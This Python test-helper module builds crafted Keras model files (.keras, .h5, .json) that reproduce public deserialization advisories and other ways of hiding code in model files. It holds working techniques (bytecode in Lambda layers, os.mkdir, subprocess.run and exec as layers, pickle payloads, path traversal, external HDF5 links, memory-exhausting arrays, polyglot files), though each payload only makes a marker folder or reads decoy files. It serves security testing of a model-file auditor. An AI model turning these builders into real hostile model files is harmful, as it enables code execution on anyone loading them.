"""Builds a harmless model for each public advisory about loading Keras files, and for other ways to hide code or files.

Instead of harm, a model makes the folder ``marker``, or reads the secret values of a file. ``tests/live/advisories.py`` loads
the models with the versions of Keras that the advisories name. No model is loaded here.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import h5py
import numpy as np

from tests.helpers import keras_configs
from tests.helpers.keras_configs import DENSE, INPUT, layer, tensor

SECRET = 4242.0
SECRET_WORD = "secretword"
OLD, KERAS = "2.12.0", "3.8.0"  # the versions of Keras that most models are for


class Files(NamedTuple):
    """The paths that a model refers to: the folder that shows that code ran, and files with secrets beside the model."""

    folder: Path

    @property
    def marker(self) -> str:
        return str(self.folder / "marker")

    @property
    def words(self) -> str:
        return str(self.folder / "words.txt")

    @property
    def raw(self) -> str:
        return str(self.folder / "raw.bin")

    @property
    def hdf5(self) -> str:
        return str(self.folder / "other.h5")

    @property
    def saved_model(self) -> str:
        return str(self.folder / "saved_model")

    def write(self) -> None:
        """Writes the files with secrets."""
        Path(self.words).write_text(f"{SECRET_WORD}\nword\n", encoding="utf-8")
        np.full(4, SECRET, "float32").tofile(self.raw)
        with h5py.File(self.hdf5, "w") as file:
            file["x"] = np.full(4, SECRET, "float32")


class Case(NamedTuple):
    """A model: its advisory, what it does, the ending of its file, the Keras that is vulnerable, and what audit finds."""

    advisory: str
    does: str
    ending: str
    keras: str
    finds: tuple[str, ...]
    build: Callable[[Files], bytes]


CASES: dict[str, Case] = {}


def case(
    name: str, advisory: str, does: str, *finds: str, ending: str = ".keras", keras: str = KERAS
) -> Callable[[Callable[[Files], bytes]], Callable[[Files], bytes]]:
    """Declares a model. ``finds`` are the codes of all findings, sorted."""

    def declare(build: Callable[[Files], bytes]) -> Callable[[Files], bytes]:
        CASES[name] = Case(advisory, does, ending, keras, finds, build)
        return build

    return declare


# Parts of models


def archive(config: Any, weights: bytes | None = None, **others: bytes) -> bytes:
    """Returns a ``.keras`` archive. ``others`` are further members."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}))
        packed.writestr("config.json", json.dumps(config))
        if weights != b"":
            packed.writestr("model.weights.h5", hdf5(dense) if weights is None else weights)
        for name, content in others.items():
            packed.writestr(name, content)
    return file.getvalue()


def hdf5(*write: Callable[[h5py.File], Any], **attributes: str) -> bytes:
    """Returns an HDF5 file that the functions fill."""
    file = io.BytesIO()
    with h5py.File(file, "w") as written:
        for function in write:
            function(written)
        for name, value in attributes.items():
            written.attrs[name] = value
    return file.getvalue()


def dense(written: h5py.File) -> None:
    """Writes the weights of the Dense layer."""
    written["layers/dense/vars/0"] = np.zeros((3, 4), "float32")
    written["layers/dense/vars/1"] = np.zeros(4, "float32")


def without(path: str) -> Callable[[h5py.File], None]:
    """Returns a function that writes the weights of the Dense layer, except those at ``path``."""

    def write(written: h5py.File) -> None:
        dense(written)
        del written[path]

    return write


def functional(*layers: Any, **config: Any) -> dict[str, Any]:
    """Returns a functional model with the module that Keras 3 writes."""
    written = keras_configs.functional(*layers, **config)
    return {**written, "module": "keras.src.models.functional", "registered_name": "Functional"}


def model(*layers: Any, **more: Any) -> dict[str, Any]:
    """Returns a functional model: an input, these layers, and a Dense layer."""
    return {**functional(INPUT, *layers, DENSE), **more}


def function(name: str, module: str, *args: Any, as_class: bool = False, **kwargs: Any) -> dict[str, Any]:
    """Returns a function in the place of a layer. Older Keras calls it with the arguments of the node."""
    named = {"class_name": name, "config": {}} if as_class else {"class_name": "function", "config": name}
    node = {"args": list(args), "kwargs": kwargs}
    return {"module": module, **named, "registered_name": name, "name": f"calls_{name}", "inbound_nodes": [node]}


def bytecode(files: Files) -> str:
    """Returns the bytecode of a function that makes the marker, as Keras stores it."""
    makes = f"__import__('os').makedirs({files.marker!r}, exist_ok=True)"
    code = compile(f"lambda x: ({makes}, x)[1]", "x", "eval")
    return base64.b64encode(marshal.dumps(code.co_consts[0])).decode()


def lambda_object(files: Files) -> dict[str, Any]:
    """Returns a Python function as Keras 3 stores it."""
    return {"class_name": "__lambda__", "config": {"code": f"{bytecode(files)}\n", "defaults": None, "closure": None}}


def lambda_layer(files: Files, **config: Any) -> dict[str, Any]:
    """Returns a Lambda layer that makes the marker when it is called."""
    given = {"function": lambda_object(files), "arguments": {}, **config}
    return layer("Lambda", "run", [tensor("x")], **given)


def keras2(*layers: dict[str, Any]) -> dict[str, Any]:
    """Returns a Sequential of Keras 2."""
    first = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 3], "dtype": "float32", "name": "x"}}
    return {"class_name": "Sequential", "config": {"name": "model", "layers": [first, *layers]}}


def old_lambda(files: Files) -> dict[str, Any]:
    """Returns a Lambda layer as ``.h5`` files have it."""
    config = {
        "name": "run",
        "function": [f"{bytecode(files)}\n", None, None],
        "function_type": "lambda",
        "arguments": {},
    }
    more = {"module": "__main__", "output_shape": None, "output_shape_type": "raw", "output_shape_module": None}
    return {"class_name": "Lambda", "config": {**config, **more, "dtype": "float32", "trainable": True}}


def whole(config: Any, *layers: str, **attributes: str) -> bytes:
    """Returns an ``.h5`` file of a whole model whose layers have no weights."""

    def write(file: h5py.File) -> None:
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = np.array([name.encode() for name in layers])
        group.attrs["backend"] = "tensorflow"
        for name in layers:
            group.create_group(name).attrs["weight_names"] = np.array([], "S1")
        file.attrs["keras_version"], file.attrs["backend"] = "3.8.0", "tensorflow"

    return hdf5(write, model_config=json.dumps(config), **attributes)


def whole_dense(bias: Callable[[h5py.File, str], Any]) -> bytes:
    """Returns an ``.h5`` file of a model with a Dense layer. ``bias`` writes the bias at a path."""
    given = {"name": "dense", "units": 4, "dtype": "float32", "trainable": True}
    file = io.BytesIO(whole(keras2({"class_name": "Dense", "config": given}), "dense"))
    with h5py.File(file, "a") as written:
        group = written["model_weights/dense"]
        group.attrs["weight_names"] = np.array([b"dense/kernel:0", b"dense/bias:0"])
        group["dense/kernel:0"] = np.zeros((3, 4), "float32")
        bias(written, "model_weights/dense/dense/bias:0")
    return file.getvalue()


class Unpickled:
    """Makes a folder when it is unpickled."""

    def __init__(self, folder: str) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.mkdir, (self.folder,)


@case("harmless", "-", "a harmless model with a Dense layer")
def _(files: Files) -> bytes:
    return archive(model())


# The public advisories


@case(
    "lambda in an .h5 file, Keras 2",
    "CVE-2024-3660",
    "a Lambda layer with bytecode",
    "runs-code",
    ending=".h5",
    keras=OLD,
)
def _(files: Files) -> bytes:
    return whole(keras2(old_lambda(files)), "run")


@case("a function of os", "CVE-2025-1550", "`os.mkdir` in the place of a layer", "runs-code")
def _(files: Files) -> bytes:
    return archive(model(function("mkdir", "os", files.marker)))


@case("a class that is a function", "CVE-2025-1550", "`subprocess.run` as the class of a layer", "runs-code")
def _(files: Files) -> bytes:
    return archive(model(function("run", "subprocess", ["mkdir", files.marker], as_class=True)))


@case("a function of Python", "CVE-2025-1550", "`builtins.exec` in the place of a layer", "runs-code")
def _(files: Files) -> bytes:
    return archive(model(function("exec", "builtins", f"__import__('os').mkdir({files.marker!r})")))


@case("get_file", "CVE-2025-8747", "`keras.utils.get_file` downloads a file to a path", "runs-code")
def _(files: Files) -> bytes:
    where = {"cache_dir": str(files.folder), "cache_subdir": "marker"}
    return archive(model(function("get_file", "keras.utils", fname="got", origin=f"file://{files.words}", **where)))


@case(
    "get_file with an archive",
    "CVE-2025-12060, CVE-2025-12638",
    "`get_file` downloads an archive and unpacks it",
    "runs-code",
)
def _(files: Files) -> bytes:
    where = {"cache_dir": str(files.folder), "cache_subdir": "marker", "extract": True}
    return archive(model(function("get_file", "keras.utils", fname="got", origin=f"file://{files.words}", **where)))


@case(
    "safe mode off",
    "CVE-2025-9906",
    "`enable_unsafe_deserialization`, then bytecode",
    "runs-code",
    "runs-code",
    "runs-code",
)
def _(files: Files) -> bytes:
    inner = functional(INPUT, lambda_layer(files), outputs=[["run", 0, 0]])
    config = model(function("enable_unsafe_deserialization", "keras.config"))
    return archive({**config, "compile_config": {"loss": inner, "optimizer": "sgd"}})


@case("lambda in an .h5 file", "CVE-2025-9905", "a Lambda layer with bytecode, safe mode on", "runs-code", ending=".h5")
def _(files: Files) -> bytes:
    return whole(keras2(old_lambda(files)), "run")


@case("a vocabulary", "CVE-2025-12058", "StringLookup reads a file as its vocabulary", "opens-file")
def _(files: Files) -> bytes:
    words = layer("InputLayer", "x", batch_shape=[None, 3], dtype="string")
    lookup = layer("StringLookup", "dense", [tensor("x")], vocabulary=files.words)
    return archive(functional(words, lookup), hdf5())


@case("a pickled module", "CVE-2025-49655", "a TorchModuleWrapper with a pickle", "runs-code", keras="3.11.2")
def _(files: Files) -> bytes:
    pickled = base64.b64encode(pickle.dumps(Unpickled(files.marker))).decode()
    wrapper = layer("TorchModuleWrapper", "torch", [tensor("x")])
    wrapper["config"]["module"] = pickled
    return archive(model(wrapper))


@case("an array without data", "CVE-2026-0897", "a weight states 4 TiB and stores nothing", "uses-memory")
def _(files: Files) -> bytes:
    def huge(written: h5py.File) -> None:
        written.create_dataset("layers/dense/vars/0", (2**20, 2**20), "float32", chunks=(1024, 1024))

    return archive(model(), hdf5(without("layers/dense/vars/0"), huge))


@case("a SavedModel", "CVE-2026-1462", "a TFSMLayer runs a SavedModel", "opens-file", keras="3.13.1")
def _(files: Files) -> bytes:
    called = layer("TFSMLayer", "dense", [tensor("x")], filepath=files.saved_model, call_endpoint="serve")
    return archive(functional(INPUT, called), hdf5())


@case("external storage", "CVE-2026-1669", "a weight has its data in another file", "opens-file", keras="3.13.1")
def _(files: Files) -> bytes:
    def outside(written: h5py.File) -> None:
        written.create_dataset("layers/dense/vars/1", (4,), "float32", external=[(files.raw, 0, 16)])

    return archive(model(), hdf5(without("layers/dense/vars/1"), outside))


@case(
    "an external link",
    "CVE-2026-1669",
    "a weight is a link to another HDF5 file",
    "opens-file",
    ending=".h5",
    keras="3.13.1",
)
def _(files: Files) -> bytes:
    return whole_dense(lambda written, path: written.update({path: h5py.ExternalLink(files.hdf5, "/x")}))


@case(
    "a virtual dataset",
    "CVE-2026-1669",
    "a weight is a view of another HDF5 file",
    "opens-file",
    ending=".h5",
    keras="3.13.1",
)
def _(files: Files) -> bytes:
    layout = h5py.VirtualLayout((4,), "float32")
    layout[:] = h5py.VirtualSource(files.hdf5, "x", (4,))
    return whole_dense(lambda written, path: written.create_virtual_dataset(path, layout))


@case(
    "a link behind 20,500 groups",
    "CVE-2026-1669",
    "an external link after 20,500 groups",
    "opens-file",
    ending=".h5",
    keras="3.13.1",
)
def _(files: Files) -> bytes:
    def link(written: h5py.File, path: str) -> None:
        for number in range(20_500):
            written.create_group(f"a/{number}")
        written[path] = h5py.ExternalLink(files.hdf5, "/x")

    return whole_dense(link)


@case(
    "a lambda that is cloned",
    "CVE-2026-12481",
    "a config with bytecode for `from_config`",
    "runs-code",
    "runs-code",
    ending=".json",
    keras="3.14.0",
)
def _(files: Files) -> bytes:
    return json.dumps(functional(INPUT, lambda_layer(files), outputs=[["run", 0, 0]])).encode()


@case("a name with ..", "CVE-2026-12479", "the name of a layer leads out of the folder", "opens-file", keras="3.14.0")
def _(files: Files) -> bytes:
    name = f"../../../../../../../../../../..{files.marker}".replace("/", "\\")  # Keras turns each \ into /
    words = layer("InputLayer", "x", batch_shape=[None, 3], dtype="string")
    lookup = layer("StringLookup", name, [tensor("x")], vocabulary=["word"])
    return archive(functional(words, lookup, outputs=[[name, 0, 0]]), hdf5())


@case(
    "an array without data, Keras 3.14",
    "CVE-2026-12570",
    "a weight states 4 TiB and stores nothing",
    "uses-memory",
    keras="3.14.0",
)
def _(files: Files) -> bytes:
    return CASES["an array without data"].build(files)


# Other ways, without an advisory


@case("HDF5 before an archive", "-", "`.h5` data with a hostile archive at the end", "ambiguous-file", "runs-code")
def _(files: Files) -> bytes:
    benign = whole(keras2({"class_name": "Flatten", "config": {"name": "flatten"}}), "flatten")
    return benign + CASES["a function of os"].build(files)


@case(
    "an archive before HDF5",
    "-",
    "an archive with a hostile `.h5` file behind it",
    "ambiguous-file",
    "runs-code",
    ending=".h5",
)
def _(files: Files) -> bytes:
    benign = archive(model())
    start = next(size for size in (512 * 2**power for power in range(20)) if size >= len(benign))
    return benign + bytes(start - len(benign)) + CASES["lambda in an .h5 file"].build(files)


@case("two configs", "-", "two members `config.json`, the second is hostile", "ambiguous-file", "runs-code")
def _(files: Files) -> bytes:
    file = io.BytesIO(archive(model()))
    hostile = model(function("mkdir", "os", files.marker))
    with zipfile.ZipFile(file, "a") as packed:
        packed.NameToInfo.clear()  # otherwise Python warns about the second member of this name
        packed.writestr("config.json", json.dumps(hostile))
    return file.getvalue()


@case("a pickle as weights", "-", "`model.weights.npz` is a pickle", "runs-code")
def _(files: Files) -> bytes:
    return archive(model(), b"", **{"model.weights.npz": pickle.dumps(Unpickled(files.marker))})


@case("an array of objects", "-", "`model.weights.npz` has an array of pickled objects", "runs-code")
def _(files: Files) -> bytes:
    file = io.BytesIO()
    np.savez(file, **{"layers/dense": np.array([Unpickled(files.marker)], object)})
    return archive(model(), b"", **{"model.weights.npz": file.getvalue()})


@case(
    "a metric in training_config",
    "-",
    "an `.h5` file compiles with a function of `antigravity` as its metric",
    "runs-code",
    ending=".h5",
)
def _(files: Files) -> bytes:
    flatten = {"class_name": "Flatten", "config": {"name": "flatten"}}
    metric = {"module": "antigravity", "class_name": "function", "config": "geohash", "registered_name": "geohash"}
    wrapper = {"class_name": "MeanMetricWrapper", "config": {"name": "m", "fn": metric}}
    optimizer = {"class_name": "SGD", "config": {"learning_rate": 0.1}}
    training = {"loss": "mean_squared_error", "metrics": [wrapper], "optimizer_config": optimizer}
    return whole(keras2(flatten), "flatten", training_config=json.dumps(training))


@case(
    "a function of TensorFlow", "-", "a TFOpLambda calls `tf.io.gfile.makedirs`", "runs-code", ending=".h5", keras=OLD
)
def _(files: Files) -> bytes:
    config = {"name": "make", "trainable": True, "dtype": "float32", "function": "io.gfile.makedirs"}
    call = ["_CONSTANT_VALUE", -1, files.marker, {}]
    made = {"class_name": "TFOpLambda", "config": config, "name": "make", "inbound_nodes": [call]}
    start = {"batch_input_shape": [None, 3], "dtype": "float32", "name": "x"}
    x = {"class_name": "InputLayer", "config": start, "name": "x", "inbound_nodes": []}
    inner = {"name": "model", "layers": [x, made], "input_layers": [["x", 0, 0]], "output_layers": [["x", 0, 0]]}
    return whole({"class_name": "Functional", "config": inner}, "x", "make")
